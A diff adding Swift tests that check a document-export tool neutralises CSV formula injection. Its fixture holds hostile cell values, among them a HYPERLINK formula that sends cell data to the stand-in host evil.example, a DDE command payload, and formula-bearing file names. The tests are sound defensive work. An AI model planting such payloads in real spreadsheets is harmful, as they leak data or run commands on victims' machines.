@@ -46,4 +46,66 @@ struct HardeningTests {
         let (bad, _, badErr) = try Support.run(Support.binary, ["batch", input.path, "--out", all.path, "--timeout", "soon", "--lang", "en"])
         #expect(bad == 2 && badErr.contains("--timeout takes a number of seconds"))
     }
+
+    // MARK: 2. CSV formula injection
+
+    /// Runs `vanban arguments…` in `directory` (for relative file names that start with `=`).
+    static func run(in directory: URL, _ arguments: [String]) throws -> (Int32, String) {
+        let process = Process()
+        process.executableURL = Support.binary
+        process.arguments = arguments
+        process.currentDirectoryURL = directory
+        let err = Pipe()
+        process.standardError = err
+        process.standardOutput = FileHandle.nullDevice
+        try process.run()
+        let e = err.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        return (process.terminationStatus, String(decoding: e, as: UTF8.self))
+    }
+
+    /// Every cell of the CSV at `path` as Excel would see it: read with Python's csv module
+    /// (utf-8-sig, as Excel strips the mark); a cell starting with = + - @ TAB or CR would be a formula.
+    static func formulaCells(_ path: String) throws -> (rows: [[String]], formulas: [String]) {
+        let rows = try ExportTests.pythonRows(path)
+        let formulas = rows.flatMap { $0 }.filter { cell in
+            guard let first = cell.unicodeScalars.first else { return false }
+            return ["=", "+", "-", "@", "\t", "\r"].contains(first)
+        }
+        return (rows, formulas)
+    }
+
+    static let formulaDocument = """
+        CHƯƠNG TRÌNH CÔNG TÁC
+        năm 2026
+        1. Tháng 01/2026
+        - =HYPERLINK("http://evil.example/?x="&A1) (Văn phòng chuẩn bị).
+        - +cmd|' /C calc'!A0 (@Ban Tổ chức chủ trì chuẩn bị).
+        - -2+3 cuộc họp
+        - @SUM(1) hội nghị
+
+        """
+
+    @Test func noCSVCellIsAFormula() throws {
+        let dir = try Support.temporaryDirectory("csv-injection")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let name = "=HYPERLINK(\"\\\\host\\share\").txt"
+        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent(name))
+        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent("@SUM(A1).txt"))
+
+        let (code, err) = try Self.run(in: dir, ["export", name, "@SUM(A1).txt", "--csv", "lich.csv"])
+        #expect(code == 0, "\(err)")
+        let export = try Self.formulaCells(dir.appendingPathComponent("lich.csv").path)
+        #expect(export.formulas.isEmpty, "\(export.formulas)")
+        // The text is all there, behind the quote mark.
+        #expect(export.rows.contains { $0[0] == "'" + name && $0[7].hasPrefix("'=HYPERLINK(\"http://evil.example/") })
+        #expect(export.rows.contains { $0[7] == "'-2+3 cuộc họp" })
+
+        let (code2, err2) = try Self.run(in: dir, ["batch", name, "@SUM(A1).txt", "--out", "out"])
+        #expect([0, 1].contains(code2), "\(err2)")
+        let summary = try Self.formulaCells(dir.appendingPathComponent("out/summary.csv").path)
+        #expect(summary.rows.count == 3)
+        #expect(summary.formulas.isEmpty, "\(summary.formulas)")
+        #expect(summary.rows.contains { $0[0] == "'" + name })
+    }
 }
